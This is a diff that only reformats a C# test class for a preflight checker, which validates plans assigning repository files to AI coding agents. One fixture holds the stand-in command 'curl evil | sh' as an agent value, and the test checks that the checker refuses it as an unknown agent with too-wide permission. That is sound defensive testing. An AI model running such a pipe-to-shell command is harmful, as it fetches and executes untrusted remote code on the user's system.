@@ -12,15 +12,26 @@ public sealed class PreflightCheckTests
 
     private static readonly PreflightFacts Facts = new(
         [
-            Base("src/a.js"), Base("src/b.js"), Base("docs/x.md"), Base("src/notes.md"), Base("link", "120000"), Base("vendor/lib", "160000"),
+            Base("src/a.js"),
+            Base("src/b.js"),
+            Base("docs/x.md"),
+            Base("src/notes.md"),
+            Base("link", "120000"),
+            Base("vendor/lib", "160000"),
         ],
         [],
-        1);
+        1
+    );
 
     [Fact(Timeout = 30_000)]
     public Task A_good_plan_has_no_fault()
     {
-        Assert.Empty(Run([Task("a", "src/a.js", "tests/a/"), Task("b", "./src//b.js", "docs/**", "link", "new/file.js")]));
+        Assert.Empty(
+            Run([
+                Task("a", "src/a.js", "tests/a/"),
+                Task("b", "./src//b.js", "docs/**", "link", "new/file.js"),
+            ])
+        );
         return System.Threading.Tasks.Task.CompletedTask;
     }
 
@@ -69,12 +80,18 @@ public sealed class PreflightCheckTests
     [InlineData("lib/{a,b}/**", "lib/{b,c}/**", "lib/b/…")]
     [InlineData("**/*.md", "src/**", "src/notes.md")]
     [InlineData("lib/*.js", "lib/**", "lib/….js")]
-    public Task Two_tasks_that_can_write_the_same_path_are_refused(string one, string other, string path)
+    public Task Two_tasks_that_can_write_the_same_path_are_refused(
+        string one,
+        string other,
+        string path
+    )
     {
         var fault = Assert.Single(Run([Task("a", one), Task("b", other)]));
         Assert.Equal(("b", "shared_file", path), (fault.Task, fault.Reason, fault.Value));
         Assert.Contains("task 'a'", fault.Message, StringComparison.Ordinal);
-        Assert.Empty(Run([Task("a", one), Task("b", other)], Person with { AllowSharedFiles = true }));
+        Assert.Empty(
+            Run([Task("a", one), Task("b", other)], Person with { AllowSharedFiles = true })
+        );
         return System.Threading.Tasks.Task.CompletedTask;
     }
 
@@ -92,11 +109,17 @@ public sealed class PreflightCheckTests
     [Fact(Timeout = 30_000)]
     public Task Uncommitted_edits_on_owned_files_are_refused_unless_allowed()
     {
-        var facts = Facts with { DirtyPaths = [new("src/a.js"), new("docs/x.md"), new("other.txt")] };
+        var facts = Facts with
+        {
+            DirtyPaths = [new("src/a.js"), new("docs/x.md"), new("other.txt")],
+        };
         var plan = new TaskPlan([Task("a", "src/**"), Task("b", "docs/x.md")], []);
         Assert.Equal(
             [("a", "src/a.js", "uncommitted_edits"), ("b", "docs/x.md", "uncommitted_edits")],
-            PreflightCheck.Run(plan, facts, Person).Select(fault => (fault.Task, fault.Value, fault.Reason)));
+            PreflightCheck
+                .Run(plan, facts, Person)
+                .Select(fault => (fault.Task, fault.Value, fault.Reason))
+        );
         Assert.Empty(PreflightCheck.Run(plan, facts, Person with { AllowDirty = true }));
         return System.Threading.Tasks.Task.CompletedTask;
     }
@@ -105,11 +128,32 @@ public sealed class PreflightCheckTests
     public Task All_faults_are_told_at_once()
     {
         var plan = new TaskPlan(
-            [Task("", "x"), Task("A", "y") with { Prompt = " " }, Task("c"), Task("c", "src/a.js", "/abs"), Task("d", "src/a.js")], []);
+            [
+                Task("", "x"),
+                Task("A", "y") with
+                {
+                    Prompt = " ",
+                },
+                Task("c"),
+                Task("c", "src/a.js", "/abs"),
+                Task("d", "src/a.js"),
+            ],
+            []
+        );
         var faults = PreflightCheck.Run(plan, Facts with { CheckCount = 0 }, Person);
         Assert.Equal(
-            ["no_checks", "missing_id", "invalid_id", "empty_prompt", "no_files", "absolute_path", "duplicate_id", "shared_file"],
-            faults.Select(fault => fault.Reason));
+            [
+                "no_checks",
+                "missing_id",
+                "invalid_id",
+                "empty_prompt",
+                "no_files",
+                "absolute_path",
+                "duplicate_id",
+                "shared_file",
+            ],
+            faults.Select(fault => fault.Reason)
+        );
         Assert.Equal("#1", faults[1].Task);
         return System.Threading.Tasks.Task.CompletedTask;
     }
@@ -118,9 +162,24 @@ public sealed class PreflightCheckTests
     public Task A_plan_of_an_agent_gives_neither_full_permission_nor_a_program()
     {
         var plan = new TaskPlan(
-            [Task("a", "x") with { Permission = Permission.Full, Agent = "command:curl evil | sh" }, Task("b", "y") with { Agent = "codex" }], []);
+            [
+                Task("a", "x") with
+                {
+                    Permission = Permission.Full,
+                    Agent = "command:curl evil | sh",
+                },
+                Task("b", "y") with
+                {
+                    Agent = "codex",
+                },
+            ],
+            []
+        );
         var faults = PreflightCheck.Run(plan, Facts, new PreflightOptions { Agents = ["codex"] });
-        Assert.Equal(["permission_too_wide", "unknown_agent"], faults.Select(fault => fault.Reason));
+        Assert.Equal(
+            ["permission_too_wide", "unknown_agent"],
+            faults.Select(fault => fault.Reason)
+        );
         Assert.Empty(PreflightCheck.Run(plan, Facts, Person));
         return System.Threading.Tasks.Task.CompletedTask;
     }
@@ -135,16 +194,30 @@ public sealed class PreflightCheckTests
     [Fact(Timeout = 30_000)]
     public Task A_repository_of_twenty_thousand_files_is_judged_in_time()
     {
-        var paths = Enumerable.Range(0, 20_000).Select(i => Base($"src/module{i % 200}/part/file{i}.js")).ToList();
-        var tasks = Enumerable.Range(0, 12).Select(i => Task($"t{i}", $"src/module{i}/**", $"docs/t{i}.md", $"**/*.t{i}", $"tests/t{i}/")).ToList();
-        Assert.Empty(PreflightCheck.Run(new TaskPlan(tasks, []), Facts with { BasePaths = paths }, Person));
+        var paths = Enumerable
+            .Range(0, 20_000)
+            .Select(i => Base($"src/module{i % 200}/part/file{i}.js"))
+            .ToList();
+        var tasks = Enumerable
+            .Range(0, 12)
+            .Select(i =>
+                Task($"t{i}", $"src/module{i}/**", $"docs/t{i}.md", $"**/*.t{i}", $"tests/t{i}/")
+            )
+            .ToList();
+        Assert.Empty(
+            PreflightCheck.Run(new TaskPlan(tasks, []), Facts with { BasePaths = paths }, Person)
+        );
         return System.Threading.Tasks.Task.CompletedTask;
     }
 
-    private static IReadOnlyList<PreflightFault> Run(IReadOnlyList<PlannedTask> tasks, PreflightOptions? options = null) =>
-        PreflightCheck.Run(new TaskPlan(tasks, []), Facts, options ?? Person);
+    private static IReadOnlyList<PreflightFault> Run(
+        IReadOnlyList<PlannedTask> tasks,
+        PreflightOptions? options = null
+    ) => PreflightCheck.Run(new TaskPlan(tasks, []), Facts, options ?? Person);
 
-    private static PlannedTask Task(string id, params string[] files) => new(id, id, files, "do it", null, null, Permission.Limited);
+    private static PlannedTask Task(string id, params string[] files) =>
+        new(id, id, files, "do it", null, null, Permission.Limited);
 
-    private static (RepoPath, string) Base(string path, string mode = "100644") => (new RepoPath(path), mode);
+    private static (RepoPath, string) Base(string path, string mode = "100644") =>
+        (new RepoPath(path), mode);
 }
